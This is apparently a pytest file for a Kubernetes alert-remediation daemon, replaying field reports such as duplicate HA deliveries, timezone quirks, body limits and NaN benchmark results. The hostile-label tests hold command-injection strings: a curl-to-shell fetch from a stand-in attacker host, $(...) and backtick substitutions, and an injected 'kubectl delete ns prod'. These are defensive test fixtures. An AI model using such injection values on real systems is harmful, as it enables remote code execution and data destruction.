"""
Field reports (the shared FIELD-REPORTS.md) that the other daemon tests do
not already pin down, replayed through the webhook, the worker and the
results watcher as they run in `remediator serve`.

docs/field-reports.md maps every entry to its tests.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import logging
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from remediator.execution.base import Outcome
from remediator.execution.kube import KubernetesExecutor
from remediator.execution.kubectl import KubectlExecutor
from remediator.k8s.retrying import RetryPolicy
from remediator.logs import JsonFormatter
from remediator.planning.actions import Action, Target
from tests.daemon.conftest import Daemon, MakeDaemon
from tests.daemon.payloads import alert, at, body, notification, resolved
from tests.daemon.scenarios import burst_repeat_and_refire
from tests.daemon.support import T0, RecordingExecutor, make_settings, scale
from tests.fakekube.harness import FakeKube

EXECUTING = {"execution.auto_execute": True, "server.allow_insecure": True}
P95 = "LLMLatencyP95Critical"
GROUP_KEY = ('{}/{severity=~"^(?:page)$"}:{alertname="LLMLatencyP95Critical",'
             ' namespace="shop"}')


def custom(alertname: str, action: str, **fields: object) -> dict[str, object]:
    """Settings mapping one custom alert to an action on the target its labels name."""
    return {
        "targets": {"allowed_namespaces": ["default", "shop"]},
        "alerts": {"custom": [{"alertname": alertname, "action": action, "priority": 1,
                               **fields}]},
    }


def rendered(records: list[logging.LogRecord]) -> str:
    """The log lines as the daemon writes them in a cluster, extra fields included."""
    formatter = JsonFormatter()
    return "\n".join(formatter.format(record) for record in records)


async def bash_syntax_errors(text: str) -> str:
    """What `bash -n` says about `text`; empty when it parses."""
    process = await asyncio.create_subprocess_exec(
        "bash", "-n", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.STDOUT)
    out, _ = await asyncio.wait_for(process.communicate(text.encode()), 60)
    return "" if process.returncode == 0 else out.decode() or "bash -n failed"


def native(path: Path, **fields: object) -> None:
    latency = {k: fields.pop(k) for k in ("p50_ms", "p95_ms", "p99_ms") if k in fields}
    path.write_text(json.dumps({"latency_stats": latency, **fields}))


# --- 1: duplicate delivery from an Alertmanager HA pair -----------------------------------


async def test_ha_copies_without_fingerprint_from_another_receiver_are_one_episode(
        make_daemon: MakeDaemon) -> None:
    """
    Field report 1: the copies differ in externalURL and receiver and carry no fingerprint.

    The episode key is derived from the sorted labels and startsAt, so the
    second peer's copy (firing, then resolved) is a 2xx repeat: one action,
    one close of the episode.
    """
    executor = RecordingExecutor()
    daemon = await make_daemon(executor=executor, **EXECUTING)
    item = alert(P95, namespace="default")
    del item["fingerprint"]
    am1 = "http://am-1.example.internal:9093"

    def copy(document: dict[str, Any]) -> dict[str, Any]:
        return {**document, "externalURL": am1, "receiver": "remediator-ha"}

    replies = [await daemon.post(notification(item)),
               await daemon.post(copy(notification(item)))]
    await daemon.settle()
    daemon.clock.advance(360)
    replies += [await daemon.post(notification(resolved(item))),
                await daemon.post(copy(notification(resolved(item))))]
    await daemon.settle()

    assert [status for status, _ in replies] == [200] * 4
    assert [reply["repeat"] for _, reply in replies] == [False, True, False, True]
    assert [a.replicas for a in executor.actions] == [5]
    assert daemon.sample("remediator_notifications_total", result="repeat") == 2
    assert daemon.sample("remediator_recovery_seconds_count") == 1


# --- 3: Go's zero time under a timezone west of UTC ---------------------------------------


@pytest.fixture
def new_york(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The whole process runs with TZ=America/New_York for the test."""
    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.usefixtures("new_york")
async def test_zero_end_time_west_of_utc_acts_and_recovers_in_minutes(
        make_daemon: MakeDaemon, caplog: pytest.LogCaptureFixture) -> None:
    """
    Field report 3, third variant: the daemon itself runs at UTC-4.

    The zero endsAt means no end known: the alert fires and scales; the
    history and the firing set serialise it; the resolve six minutes later
    records six minutes, not two thousand years and not a negative age.
    """
    executor = RecordingExecutor()
    daemon = await make_daemon(executor=executor, **EXECUTING)
    item = alert(P95, fingerprint="a1b2c3d4e5f60708")

    with caplog.at_level(logging.DEBUG):
        status, reply = await daemon.post(notification(item))
        await daemon.settle()
        listed, firing = await daemon.api("GET", "/api/v1/alerts")
        history, actions = await daemon.api("GET", "/api/v1/actions")
        daemon.clock.advance(360)
        await daemon.post(notification(resolved(item)))
        await daemon.settle()

    assert (status, reply["new"], listed, history) == (200, 1, 200, 200)
    assert [a.replicas for a in executor.actions] == [5]
    assert [entry["labels"]["alertname"] for entry in firing] == [P95]
    assert actions[0]["alert"]["startsAt"] == "2024-05-01T10:00:00.000000+00:00"
    assert daemon.sample("remediator_recovery_seconds_sum") == 360
    assert "Overflow" not in rendered(caplog.records)
    assert "0001-01-01" not in rendered(caplog.records)


# --- 4: a resolved alert inside a firing group --------------------------------------------


async def test_resolved_alert_in_a_firing_group_neither_acts_nor_restarts_its_cooldown(
        make_daemon: MakeDaemon) -> None:
    """
    Field report 4: shop/payments resolves inside a group that is still firing.

    payments was scaled at t=0. At t=8m the group (status firing, no
    deployment in commonLabels) brings checkout firing and payments
    resolved: only checkout is scaled. payments fires again at t=10m30s and
    is scaled: its cooldown ran from t=0, the resolve did not restart it.
    """
    daemon = await make_daemon(raw=custom("HighLatencyP99", "scale", replicas=5))
    payments = alert("HighLatencyP99", namespace="shop", deployment="payments",
                     fingerprint="2222222222222222")
    checkout = alert("HighLatencyP99", namespace="shop", deployment="checkout",
                     fingerprint="1111111111111111", starts_at=at(8))

    await daemon.post(notification(payments))
    await daemon.settle()
    daemon.clock.advance(8 * 60)
    mixed = notification(checkout, resolved(payments, at(7.5)))
    await daemon.post(mixed)
    await daemon.settle()
    daemon.clock.advance(150)
    await daemon.post(notification(alert("HighLatencyP99", namespace="shop",
                                         deployment="payments",
                                         fingerprint="2222222222222222", starts_at=at(10.5))))
    await daemon.settle()

    assert mixed["status"] == "firing" and "deployment" not in mixed["commonLabels"]
    assert [(d.target, d.outcome) for d in await daemon.decisions()] == [
        ("shop/deployment/payments", "dry_run"),
        ("shop/deployment/checkout", "dry_run"),
        ("shop/deployment/payments", "dry_run"),
    ]
    assert daemon.sample("remediator_recovery_seconds_count") == 1


# --- 7: groupKey as an opaque string ----------------------------------------------------


async def test_group_key_is_logged_only_as_a_hash_and_episodes_survive_a_restart(
        make_daemon: MakeDaemon, caplog: pytest.LogCaptureFixture) -> None:
    """
    Field report 7: a groupKey of braces, quotes and a regex, and a non-ASCII label.

    The log carries the first 16 hex digits of its SHA-256, never the text;
    the episode, non-ASCII label included, comes back from the store after a
    restart, where the same notification is a repeat; the recorded command
    passes `bash -n` and holds nothing of the groupKey.
    """
    item = alert(P95, team="équipe-paiement")
    document = notification(item, group_key=GROUP_KEY)
    first = await make_daemon()

    with caplog.at_level(logging.DEBUG):
        await first.post(document)
        await first.settle()
    await first.client.close()
    restarted = await make_daemon()
    status, reply = await restarted.post(document)
    [decision] = await restarted.decisions()
    [episode] = await restarted.services.store.load_episodes()

    lines = rendered(caplog.records)
    groups = [vars(r)["group"] for r in caplog.records if "group" in vars(r)]
    assert groups == [hashlib.sha256(GROUP_KEY.encode()).hexdigest()[:16]]
    assert "severity=~" not in lines and "(?:page)" not in lines
    assert (status, reply["repeat"]) == (200, True)
    assert episode.labels["team"] == "équipe-paiement"
    assert decision.command and "severity" not in decision.command
    assert await bash_syntax_errors(decision.command) == ""


# --- 8: storms, truncated groups and the body limit ---------------------------------------


async def test_truncated_group_is_warned_about_and_counted(
        daemon: Daemon, caplog: pytest.LogCaptureFixture) -> None:
    """Field report 8: truncatedAlerts > 0 gives a warning naming it, and the counter."""
    with caplog.at_level(logging.WARNING, logger="remediator.webhook"):
        status, _ = await daemon.post(notification(alert(P95), truncated=1200))

    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert status == 200
    assert any("1200" in line and "truncatedAlerts" in line for line in warned), warned
    assert daemon.sample("remediator_truncated_alerts_total") == 1200


async def test_body_limit_is_a_setting_and_its_refusal_is_a_logged_413(
        make_daemon: MakeDaemon, caplog: pytest.LogCaptureFixture) -> None:
    """
    Field report 8: the limit is server.body_limit_bytes; above it, 413 and one log line.

    With the limit lowered to 1 MiB, the report's 1.6 MB storm group is
    refused with 413 (not a 500), the log line names the setting, and
    nothing is recorded.
    """
    daemon = await make_daemon(**{"server.body_limit_bytes": 1024 * 1024})
    filler = "y" * 400
    alerts = [alert(P95, pod=f"checkout-{n}", annotations={"description": filler})
              for n in range(3000)]
    data = body(notification(*alerts, truncated=1200))
    assert len(data) > 1_500_000

    with caplog.at_level(logging.WARNING, logger="remediator.webhook"):
        status, _ = await daemon.post(data)

    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert status == 413
    assert any("server.body_limit_bytes" in line for line in warned), warned
    assert daemon.sample("remediator_webhook_requests_total", code="413") == 1
    assert await daemon.services.store.load_episodes() == []


# --- 24: a bad results file after a good one ----------------------------------------------


async def test_unreadable_file_never_makes_the_last_good_figures_look_fresh(
        make_daemon: MakeDaemon, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """
    Field report 24 b: C-style `-nan` replaces a good result that finished at 09:00.

    The daemon stays up and says where the file is broken; the timestamp
    stays 09:00 (the bad file's newer mtime is not taken for a new run), so
    once that is older than the stale limit the kept figures are withdrawn.
    """
    path = tmp_path / "bench_results.json"
    native(path, p95_ms=900.0, p99_ms=2500.0, error_rate=0.002, throughput_rps=400.0,
           finished_at="2024-05-01T09:00:00Z")
    daemon = await make_daemon(**{"alerts.results_stale_seconds": 3 * 3600})
    nine = T0 - 3600

    path.write_text('{"service": "checkout", "requests": 10, "latency_stats":'
                    ' {"p95_ms": 0.000, "p99_ms": -nan}, "throughput_rps": inf}')
    with caplog.at_level(logging.WARNING, logger="remediator.results"):
        await daemon.services.watcher.check()
    kept = daemon.sample("llm_bench_latency_seconds", percentile="99")
    daemon.clock.now = nine + 3 * 3600 + 60
    text = await daemon.metrics()

    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert any("line 1 column" in line for line in warned), warned
    assert daemon.sample("remediator_results_read_failures_total") == 1
    assert kept == pytest.approx(2.5)
    assert daemon.sample("llm_bench_last_result_timestamp_seconds") == pytest.approx(nine)
    assert "llm_bench_latency_seconds{" not in text


async def test_non_finite_figures_never_reach_the_json_the_daemon_writes(
        daemon: Daemon) -> None:
    """
    Field report 24 a: a pushed result of NaN and ±Infinity.

    The API's reply, the exposition and the decision history are free of
    NaN and Infinity tokens; the figures are simply absent.
    """
    document = (b'{"service": "checkout", "requests": 10, "latency_stats":'
                b' {"p95_ms": NaN, "p99_ms": Infinity}, "error_rate": 0.0,'
                b' "throughput_rps": -Infinity}')

    status, reply = await daemon.api("POST", "/api/v1/results", data=document)
    await daemon.post(notification(alert(P95)))
    await daemon.settle()
    texts = [json.dumps(reply), await daemon.metrics(),
             await (await daemon.client.get("/api/v1/actions")).text()]

    assert status == 200
    assert reply["metrics"]["p95_ms"] is None and reply["metrics"]["error_rate"] == 0.0
    for text in texts:
        assert "NaN" not in text and "Infinity" not in text


# --- 12: hostile target labels ----------------------------------------------------------


async def test_hostile_target_labels_are_refused_in_one_log_line_each(
        make_daemon: MakeDaemon, caplog: pytest.LogCaptureFixture) -> None:
    """
    Field report 12, with execution on: no hostile label reaches the executor.

    Each refusal is logged as one line naming the bad value (escaped, so the
    newline in the namespace cannot forge a second log line), and the
    hostile summary annotation is never copied anywhere.
    """
    executor = RecordingExecutor()
    daemon = await make_daemon(raw=custom("HighLatencyP99", "scale", replicas=5),
                               executor=executor, **EXECUTING)
    hostile = [
        {"namespace": "shop", "deployment": "checkout'; curl -s http://attacker.invalid/x | sh"},
        {"namespace": "shop", "deployment": "$(touch PWNED)"},
        {"namespace": "shop\nkubectl delete ns prod", "deployment": "checkout"},
        {"namespace": "shop", "deployment": "Checkout_Service"},
    ]
    summary = "`id` and $(id) and '\"quotes\""
    alerts = [alert("HighLatencyP99", annotations={"summary": summary}, **labels)
              for labels in hostile]

    with caplog.at_level(logging.INFO):
        status, _ = await daemon.post(notification(*alerts))
        await daemon.settle()

    refusals = [r for r in caplog.records if "invalid_target" in r.getMessage()]
    lines = rendered(refusals).splitlines()
    assert status == 200
    assert executor.actions == []
    assert len(lines) == len(hostile)
    assert all("is not a valid name" in line for line in lines)
    assert "$(id)" not in rendered(caplog.records)


# --- 9: a burst of one rule's alerts, a repeat, a new episode, on a cluster ---------------


async def test_burst_repeat_and_new_episode_on_a_cluster_of_three_replicas(
        make_daemon: MakeDaemon, fake_kube: FakeKube, tmp_path: Path) -> None:
    """
    Field report 9 against the fake API, llm-gateway at 3 replicas, cooldown 5 min.

    Four alerts differing only in `instance` make one scale, 3 to 5. The
    repeat at 5m30s changes nothing. The new episode at 9m is judged afresh:
    it is decided, and the executor says the target already holds 5, so
    nothing is blocked forever and nothing is overdone.
    """
    fake_kube.cluster.add_deployment("default", "llm-gateway", replicas=3)
    settings = make_settings(**{**EXECUTING, "guard.cooldowns.scale": 300,
                                "state.dir": str(tmp_path / "state"),
                                "results.path": str(tmp_path / "bench_results.json")})
    async with fake_kube.api_client() as api:
        executor = KubernetesExecutor(settings, api, retry=RetryPolicy(attempts=3,
                                                                       max_delay=0.01))
        daemon = await make_daemon(settings, executor=executor)
        repeat = await burst_repeat_and_refire(daemon, P95)

    first, again = await daemon.decisions()
    scaled = [r for r in fake_kube.requests if r.verb in ("patch", "update")
              and r.resource == "deployments/scale"]
    assert (first.outcome, len(first.episodes)) == ("executed", 4)
    assert repeat["repeat"] is True
    assert (again.outcome, len(again.episodes)) == ("skipped", 4)
    assert again.reason.startswith("already_at_replicas:")
    assert len(scaled) == 1


# --- 12: the live kubectl path --------------------------------------------------------------

RECORDING_KUBECTL = """#!{python}
import json, sys
with open({log!r}, "a") as log:
    log.write(json.dumps(sys.argv[1:]) + "\\n")
if sys.argv[1] == "get":
    print("3", end="")
"""


async def outcome(executor: KubectlExecutor, action: Action) -> Outcome:
    """The outcome the executor itself reports: a hostile name is its refusal, not a raise."""
    return (await executor.run(action)).outcome


def names_under(directory: Path) -> set[str]:
    """Every file name under `directory`, however deep."""
    return {path.name for path in directory.rglob("*")}


@pytest.mark.parametrize("name", [
    "checkout'; curl -s http://attacker.invalid/x | sh; echo '", "$(touch PWNED)",
    "`touch PWNED`", "Checkout_Service",
])
async def test_kubectl_executor_refuses_a_hostile_name_without_running_anything(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """
    Field report 12, the live path: kubectl runs from argument lists, no shell.

    An action naming a hostile Deployment (one that got past every earlier
    check) is refused by the executor itself and kubectl never starts; a
    valid action reaches kubectl with each value as one argument.
    """
    monkeypatch.chdir(tmp_path)
    log = tmp_path / "argv.log"
    stub = tmp_path / "kubectl"
    stub.write_text(RECORDING_KUBECTL.format(python=sys.executable, log=str(log)))
    stub.chmod(0o755)
    executor = KubectlExecutor(kubectl=str(stub))

    refused = await outcome(executor, scale(5, Target("Deployment", "shop", name)))
    done = await outcome(executor, scale(5, Target("Deployment", "shop", "checkout")))

    assert (refused, done) == (Outcome.REFUSED, Outcome.EXECUTED)
    assert [json.loads(line) for line in log.read_text().splitlines()] == [
        ["get", "deployment", "checkout", "--namespace=shop", "-o",
         "jsonpath={.spec.replicas}"],
        ["scale", "deployment", "checkout", "--replicas=5", "--namespace=shop"],
    ]
    assert "PWNED" not in names_under(tmp_path)


# --- 25: a later result without p99 -------------------------------------------------------


async def test_a_p99_is_never_carried_over_from_the_previous_result(
        make_daemon: MakeDaemon, tmp_path: Path) -> None:
    """Field report 25: after a result with p99, one without it exports no p99 at all."""
    path = tmp_path / "bench_results.json"
    native(path, p95_ms=75.0, p99_ms=480.0, error_rate=0.01, throughput_rps=1822.8)
    daemon = await make_daemon()
    assert daemon.sample("llm_bench_latency_seconds", percentile="99") == pytest.approx(0.48)

    native(path, p95_ms=75.0, p99_ms=None, error_rate=0.01, throughput_rps=1822.8,
           extra={"unknown": True})
    await daemon.services.watcher.check()
    text = await daemon.metrics()

    assert 'percentile="99"' not in text
    assert daemon.sample("llm_bench_latency_seconds", percentile="95") == pytest.approx(0.075)
